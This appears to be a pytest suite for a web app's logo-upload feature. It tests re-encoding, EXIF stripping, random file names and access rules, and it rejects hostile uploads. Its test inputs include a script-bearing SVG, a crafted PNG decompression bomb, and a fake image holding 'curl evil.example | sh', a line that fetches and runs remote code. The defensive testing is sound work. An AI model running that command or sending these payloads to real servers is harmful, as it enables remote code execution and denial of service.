"""Logo uploads: only real PNG, JPEG and WebP images are stored, re-encoded under a random name."""

from __future__ import annotations

import io
import re
import struct
import zlib

import pytest
import sqlalchemy as sa
from PIL import Image
from werkzeug.datastructures import FileStorage

from cluster.extensions import db
from cluster.models import AuditEntry, Organisation
from cluster.services.logos import MAX_SIDE, LogoError, store_logo


def image_bytes(fmt: str, size=(1200, 800), mode="RGB", **params) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, "teal").save(buffer, fmt, **params)
    return buffer.getvalue()


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_declaring(width: int, height: int) -> bytes:
    """A tiny, valid-looking PNG whose header claims huge dimensions: a decompression bomb."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + png_chunk(b"IHDR", header)
        + png_chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + png_chunk(b"IEND", b"")
    )


def upload(data: bytes, filename="logo.png", content_type="image/png") -> FileStorage:
    return FileStorage(io.BytesIO(data), filename=filename, content_type=content_type)


SVG = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b"<script>alert(1)</script></svg>"
)
ATTACKS = {
    "svg": (SVG, "logo.svg", "image/svg+xml", "not an image we can read"),
    "svg renamed png": (SVG, "logo.png", "image/png", "not an image we can read"),
    "script renamed png": (
        b"#!/bin/sh\ncurl evil.example | sh\n",
        "logo.png",
        "image/png",
        "not an image we can read",
    ),
    "truncated png": (image_bytes("PNG")[:300], "logo.png", "image/png", "damaged or incomplete"),
    "png missing its end": (
        image_bytes("PNG")[:-30],
        "logo.png",
        "image/png",
        "damaged or incomplete",
    ),
    "decompression bomb": (png_declaring(30_000, 30_000), "logo.png", "image/png", "too large"),
    "bomb just over the limit": (png_declaring(5_001, 5_000), "logo.png", "image/png", "too large"),
    "over 2 MB": (b"\x89PNG\r\n\x1a\n" + bytes(2 * 1024 * 1024), "logo.png", "image/png", "2 MB"),
    "gif": (image_bytes("GIF"), "logo.gif", "image/gif", "not an image we can read"),
    "empty": (b"", "logo.png", "image/png", "empty"),
}


@pytest.mark.parametrize("name", ATTACKS)
def test_each_upload_attack_gets_a_clear_error_and_stores_nothing(tmp_path, name):
    data, filename, content_type, message = ATTACKS[name]
    upload_dir = tmp_path / "uploads"
    with pytest.raises(LogoError, match=message):
        store_logo(upload(data, filename, content_type), upload_dir)
    assert not upload_dir.exists() or list(upload_dir.iterdir()) == []


@pytest.mark.parametrize(
    ("fmt", "stored_format", "suffix"),
    [("PNG", "PNG", ".png"), ("JPEG", "WEBP", ".webp"), ("WEBP", "WEBP", ".webp")],
)
def test_good_image_is_reencoded_small_under_a_random_name(tmp_path, fmt, stored_format, suffix):
    exif = Image.Exif()
    exif[0x010E] = "secret camera note"
    params = {"exif": exif} if fmt != "PNG" else {}
    data = image_bytes(fmt, size=(2000, 1000), **params)

    first = store_logo(upload(data, "My Logo.png"), tmp_path)
    second = store_logo(upload(data, "My Logo.png"), tmp_path)

    assert first != second
    assert first.endswith(suffix) and len(first) == 32 + len(suffix)
    assert "logo" not in first.lower()
    with Image.open(tmp_path / first) as stored:
        assert stored.format == stored_format
        assert stored.size == (MAX_SIDE, MAX_SIDE // 2)
        assert "exif" not in stored.info
    assert b"secret camera note" not in (tmp_path / first).read_bytes()


def test_transparent_png_keeps_its_transparency(tmp_path):
    data = image_bytes("PNG", size=(64, 64), mode="RGBA")
    name = store_logo(upload(data), tmp_path)
    with Image.open(tmp_path / name) as stored:
        assert stored.mode == "RGBA"
        assert stored.size == (64, 64)


def test_a_lying_content_type_does_not_matter(tmp_path):
    data = image_bytes("JPEG", size=(100, 100))
    name = store_logo(upload(data, "logo.svg", "image/svg+xml"), tmp_path)
    with Image.open(tmp_path / name) as stored:
        assert stored.format == "WEBP"


# In the staff area ----------------------------------------------------------------------------


@pytest.fixture
def org(app):
    with app.app_context():
        db.session.add(
            Organisation(slug="kalibr", name="Kalibr", kind="company", status="published")
        )
        db.session.commit()
    return "kalibr"


def stored(app):
    with app.app_context():
        org = db.session.scalar(sa.select(Organisation).filter_by(slug="kalibr"))
        return org.logo, org.version


def post_logo(staff, data, filename="logo.png"):
    return staff.post(
        "/en/staff/organisations/kalibr/logo",
        data={"logo": (io.BytesIO(data), filename)},
        content_type="multipart/form-data",
    )


def test_staff_upload_a_logo_that_the_profile_shows(app, client, staff, org, tmp_path):
    staff.login()
    response = post_logo(staff, image_bytes("JPEG"), "photo.jpg")
    assert response.status_code == 303
    name, _version = stored(app)
    assert re.fullmatch(r"[0-9a-f]{32}\.webp", name)
    assert (tmp_path / "uploads" / name).is_file()
    profile = client.get("/en/o/kalibr").get_data(as_text=True)
    assert f'src="/uploads/{name}"' in profile
    with client.get(f"/uploads/{name}") as served:
        assert served.status_code == 200 and served.mimetype == "image/webp"
    with app.app_context():
        assert db.session.scalar(sa.select(AuditEntry).filter_by(action="logo")) is not None


@pytest.mark.parametrize(
    "name", ["svg", "script renamed png", "truncated png", "decompression bomb"]
)
def test_refused_logo_shows_the_error_by_the_field_and_changes_nothing(
    app, client, staff, org, tmp_path, name
):
    data, filename, _content_type, message = ATTACKS[name]
    staff.login()
    before = stored(app)
    response = post_logo(staff, data, filename)
    assert response.status_code == 422
    page = response.get_data(as_text=True)
    assert 'class="field-error" id="logo-error"' in page
    assert message in page
    assert 'enctype="multipart/form-data"' in page
    assert stored(app) == before
    assert list((tmp_path / "uploads").iterdir()) == []


def test_anonymous_visitors_cannot_upload_logos(app, client, org, tmp_path):
    response = client.post(
        "/en/staff/organisations/kalibr/logo",
        data={"logo": (io.BytesIO(image_bytes("PNG")), "logo.png")},
        content_type="multipart/form-data",
    )
    assert response.status_code in (302, 400)
    assert stored(app)[0] == ""
    assert list((tmp_path / "uploads").iterdir()) == []


def test_staff_remove_a_logo(app, client, staff, org):
    staff.login()
    post_logo(staff, image_bytes("PNG"))
    assert stored(app)[0]
    assert staff.post("/en/staff/organisations/kalibr/logo/remove").status_code == 303
    assert stored(app)[0] == ""


# Who sees a logo, and when its file goes (security review, item 11) -------------------------


def set_status(app, status):
    with app.app_context():
        org = db.session.scalar(sa.select(Organisation).filter_by(slug="kalibr"))
        org.status = status
        db.session.commit()


@pytest.mark.parametrize("status", ["draft", "pending", "archived"])
def test_a_logo_is_public_only_while_its_organisation_is_published(app, client, staff, org, status):
    staff.login()
    post_logo(staff, image_bytes("PNG"))
    name, _version = stored(app)
    with app.test_client() as visitor, visitor.get(f"/uploads/{name}") as served:
        assert served.status_code == 200
        assert served.cache_control.public and served.cache_control.max_age <= 600
    set_status(app, status)
    with app.test_client() as visitor, visitor.get(f"/uploads/{name}") as served:
        assert served.status_code == 404
    # Staff still see it on their pages, and nothing keeps a copy.
    with client.get(f"/uploads/{name}") as served:
        assert served.status_code == 200
        assert served.cache_control.no_store and served.cache_control.private
    set_status(app, "published")
    with app.test_client() as visitor, visitor.get(f"/uploads/{name}") as served:
        assert served.status_code == 200


def test_a_replaced_logo_is_deleted_and_no_longer_served(app, client, staff, org, tmp_path):
    staff.login()
    post_logo(staff, image_bytes("PNG"))
    first, _version = stored(app)
    post_logo(staff, image_bytes("JPEG"), "photo.jpg")
    second, _version = stored(app)
    assert first != second
    assert sorted(path.name for path in (tmp_path / "uploads").iterdir()) == [second]
    with app.test_client() as visitor:
        assert visitor.get(f"/uploads/{first}").status_code == 404
        with visitor.get(f"/uploads/{second}") as served:
            assert served.status_code == 200


def test_a_removed_logo_is_deleted_and_no_longer_served(app, client, staff, org, tmp_path):
    staff.login()
    post_logo(staff, image_bytes("PNG"))
    name, _version = stored(app)
    assert staff.post("/en/staff/organisations/kalibr/logo/remove").status_code == 303
    assert list((tmp_path / "uploads").iterdir()) == []
    assert client.get(f"/uploads/{name}").status_code == 404


def test_deleting_an_organisation_deletes_its_logo(app, client, staff, org, tmp_path):
    staff.login()
    post_logo(staff, image_bytes("PNG"))
    name, _version = stored(app)
    with app.app_context():
        db.session.delete(db.session.scalar(sa.select(Organisation).filter_by(slug="kalibr")))
        db.session.commit()
    assert list((tmp_path / "uploads").iterdir()) == []
    assert client.get(f"/uploads/{name}").status_code == 404


def test_a_change_rolled_back_keeps_the_logo_file(app, staff, org, tmp_path):
    staff.login()
    post_logo(staff, image_bytes("PNG"))
    name, _version = stored(app)
    with app.app_context():
        org = db.session.scalar(sa.select(Organisation).filter_by(slug="kalibr"))
        org.logo = ""
        db.session.flush()
        db.session.rollback()
        db.session.commit()
    assert (tmp_path / "uploads" / name).is_file()
    assert stored(app)[0] == name


def test_a_file_no_organisation_shows_is_not_served(app, client, staff, tmp_path):
    stray = "0123456789abcdef0123456789abcdef.png"
    (tmp_path / "uploads").mkdir(exist_ok=True)
    (tmp_path / "uploads" / stray).write_bytes(image_bytes("PNG"))
    assert client.get(f"/uploads/{stray}").status_code == 404
    staff.login()
    assert client.get(f"/uploads/{stray}").status_code == 404
